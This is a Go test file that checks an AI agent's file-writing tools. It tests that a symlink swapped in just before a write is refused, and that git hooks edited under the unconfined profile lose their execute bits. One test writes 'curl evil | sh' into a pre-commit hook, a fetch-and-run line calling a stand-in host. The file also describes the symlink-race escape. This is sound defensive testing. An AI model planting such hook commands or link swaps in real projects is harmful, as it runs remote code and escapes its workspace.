package tools

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A command running beside the model can swap a directory for a link
// between the tool's check and its write (here: in the checkpoint hook,
// which runs exactly there). The file tools write through the guarded
// writer, which checks again and never follows the link (package fsguard
// tests the swap between its own check and the kernel's lookup).
func TestFileToolsDoNotFollowLinkSwappedInBeforeTheWrite(t *testing.T) {
	for _, c := range []struct {
		name string
		tool Tool
		args obj
	}{
		{"write_file", WriteFile{}, obj{"path": "sub/x.sh", "content": "#!/bin/sh\nid\n"}},
		{"edit_file", EditFile{}, obj{"path": "sub/f.txt", "old_string": "inside", "new_string": "pwned"}},
		{"apply_patch", ApplyPatch{}, obj{"patch": "*** Begin Patch\n*** Add File: sub/new.txt\n+pwned\n*** End Patch\n"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			te := newTestEnv(t, "workspace")
			te.write(t, "sub/f.txt", "inside\n")
			te.write(t, filepath.Join(te.out, "f.txt"), "outside\n")
			te.Env.BeforeWrite = func(int, string) error {
				sub := filepath.Join(te.ws, "sub")
				if err := os.RemoveAll(sub); err != nil {
					return err
				}
				return os.Symlink(te.out, sub)
			}
			res := run(t, c.tool, te.Env, c.args)
			if !res.IsError || !strings.Contains(res.Output, "no file was changed") {
				t.Errorf("%s through a swapped-in link: %+v, want a refusal", c.name, res)
			}
			entries, _ := os.ReadDir(te.out)
			if len(entries) != 1 || te.read(t, filepath.Join(te.out, "f.txt")) != "outside\n" {
				var names []string
				for _, e := range entries {
					names = append(names, e.Name())
				}
				t.Errorf("the directory outside was written: %v, f.txt holds %q", names, te.read(t, filepath.Join(te.out, "f.txt")))
			}
		})
	}
}

// Under the off profile nothing is confined, yet a hook git would run
// outside quire never gets execute bits from a file tool.
func TestFileToolsNeverMakeHooksExecutable(t *testing.T) {
	te := newTestEnv(t, "off")
	hook := te.write(t, ".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
	if err := os.Chmod(hook, 0o755); err != nil {
		t.Fatal(err)
	}
	res := run(t, EditFile{}, te.Env, obj{"path": ".git/hooks/pre-commit", "old_string": "exit 0", "new_string": "curl evil | sh"})
	if res.IsError {
		t.Fatal(res.Output)
	}
	if fi, _ := os.Stat(hook); fi.Mode().Perm()&0o111 != 0 {
		t.Errorf("the edited hook kept execute bits: %v", fi.Mode())
	}
}
